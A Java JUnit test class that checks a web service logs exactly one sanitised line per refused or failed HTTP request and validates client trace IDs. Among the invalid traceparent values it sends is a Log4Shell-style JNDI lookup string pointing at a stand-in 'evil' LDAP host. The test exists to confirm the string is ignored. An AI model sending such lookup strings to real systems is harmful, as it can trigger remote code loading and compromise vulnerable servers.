package dev.till.http;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import dev.till.Wire;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;

@WebTest
@ExtendWith(OutputCaptureExtension.class)
class RequestLogTest {

    private static final String END = "Host: till\r\nConnection: close\r\n\r\n";
    private static final Pattern ID = Pattern.compile("X-Request-Id: (\\S+)");

    @LocalServerPort
    private int port;

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        GET /traps/conflict HTTP/1.1             | GET /traps/conflict 409 product_unavailable
        GET /traps/skus/a%20b?q=secret HTTP/1.1  | GET /traps/skus/{sku} 404 product_not_found
        GET /traps/parameters?limit=0 HTTP/1.1   | GET /traps/parameters 400 invalid_request
        DELETE /traps/conflict HTTP/1.1          | DELETE /traps/conflict 405 method_not_allowed
        BREW /traps HTTP/1.1                     | ? /traps 405 method_not_allowed
        GET /orders HTTP/1.1                     | GET /orders 401 unauthorized
        GET /products?=a HTTP/1.1                | GET /products 400 malformed_query
        GET /secret/path HTTP/1.1                | GET ? 404 not_found
        GET /actuator/health/secret HTTP/1.1     | GET /actuator/health/** 404 not_found
        GET /swagger-ui/secret.js HTTP/1.1       | GET /swagger-ui/** 404 not_found
        GET /%zz HTTP/1.1                        | GET ? 400 bad_request
        GET /nothing HTTP/9.9                    | GET ? 505 http_version_not_supported
        secret                                   | ? ? 400 bad_request
        """)
    void hasOneLineForARefusal(String requestLine, String line, CapturedOutput output) {
        assertOneLine(line, requestLine + "\r\n" + END, output);
        assertThat(output).doesNotContain("secret", "BREW", "zz");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        X-Fail: refusal                      | POST /traps 409 idempotency_key_in_flight
        X-Fail: status                       | POST /traps 403 forbidden
        Sec-Fetch-Site: cross-site           | POST /traps 403 cross_site_request
        Content-Type: text/secret            | POST /traps 415 unsupported_media_type
        Content-Length: 99999999             | POST /traps 413 content_too_large
        Transfer-Encoding: secret            | POST ? 501 not_implemented
        Host: se cret                        | POST ? 400 bad_request
        Idempotency-Key:                     | POST /traps 400 invalid_request
        """)
    void hasOneLineForARefusalByAFilterOrTomcat(String header, String line, CapturedOutput output) {
        String host = header.startsWith("Host") ? "Connection: close\r\n\r\n" : END;
        assertOneLine(line, "POST /traps HTTP/1.1\r\n" + header + "\r\n" + host, output);
        assertThat(output).doesNotContain("secret", "se cret");
    }

    @Test
    void hasOneLineForHeadersThatAreTooLong(CapturedOutput output) {
        assertOneLine("GET ? 431 request_header_fields_too_large",
            "GET /traps HTTP/1.1\r\nX-Long: " + "a".repeat(10_000) + "\r\n" + END, output);
        assertOneLine("GET ? 414 uri_too_long", "GET /" + "a".repeat(10_000) + " HTTP/1.1\r\n" + END, output);
    }

    @Test
    void hasOnlyTheStackTraceOfAFailure(CapturedOutput output) {
        for (String request : List.of("GET /traps/broken", "GET /traps/parameters HTTP/1.1\r\nX-Fail: error")) {
            String start = request.contains("HTTP") ? request : request + " HTTP/1.1";
            assertThat(lines(start + "\r\n" + END, output)).singleElement().asString().contains("The request failed");
        }
        assertThat(output).doesNotContain("till.requests");
    }

    @Test
    void hasOtherRequestsAtDebug(CapturedOutput output) {
        new Wire(port).send("GET /traps/parameters?limit=7");
        Logger requests = (Logger) LoggerFactory.getLogger(RequestLog.LOGGER);
        requests.setLevel(Level.DEBUG);
        try {
            assertOneLine("GET /traps/parameters 200", "GET /traps/parameters?limit=8 HTTP/1.1\r\n" + END, output);
            assertOneLine("OPTIONS /traps 200", "OPTIONS /traps HTTP/1.1\r\n" + END, output);
        } finally {
            requests.setLevel(null);
        }
        assertThat(output).containsOnlyOnce("GET /traps/parameters");
    }

    @ParameterizedTest
    @ValueSource(strings = {"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        "01-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-00-more"})
    void hasTheTraceIdOfTheClient(String parent, CapturedOutput output) {
        new Wire(port).send("GET /traps/conflict", "traceparent: " + parent, "X-Request-Id: r-1");

        Awaitility.await().untilAsserted(() ->
            assertThat(output).contains(" [r-1 4bf92f3577b34da6a3ce929d0e0e4736] till.requests "));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "00", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7",
        "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-more",
        "00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01",
        "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        "00-00000000000000000000000000000000-00f067aa0ba902b7-01",
        "00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01",
        "00-4bf92f3577b34da6a3ce929d0e0e473-00f067aa0ba902b7-01",
        "00-4bf92f3577b34da6a3ce929d0e0e47360-00f067aa0ba902b7-01",
        "00-${jndi:ldap://evil}aaaaaaaaaaaaaa-00f067aa0ba902b7-01", "a\tb"})
    void ignoresATraceThatIsInvalid(String parent, CapturedOutput output) {
        new Wire(port).send("GET /traps/conflict", "traceparent: " + parent, "X-Request-Id: r-2");

        Awaitility.await().untilAsserted(() -> assertThat(output).contains(" [r-2] till.requests "));
    }

    @Test
    void hasNoBracketsOutsideOfRequests(CapturedOutput output) {
        LoggerFactory.getLogger("test").info("Hello");

        assertThat(output.getOut()).containsPattern("\\[ +main] test +: Hello");
    }

    private void assertOneLine(String line, String request, CapturedOutput output) {
        assertThat(lines(request, output)).singleElement().asString()
            .contains(" till.requests ").matches(".*: " + Pattern.quote(line) + " \\d+ ms");
    }

    /** The lines of the log that have the id of the answer. */
    private List<String> lines(String request, CapturedOutput output) {
        String answer = new Wire(port).raw(request);
        Matcher id = ID.matcher(answer);
        assertThat(id.find()).as(answer).isTrue();
        return Awaitility.await().until(() -> output.getOut().lines()
            .filter(line -> line.contains("[" + id.group(1) + "]")).toList(), lines -> !lines.isEmpty());
    }
}
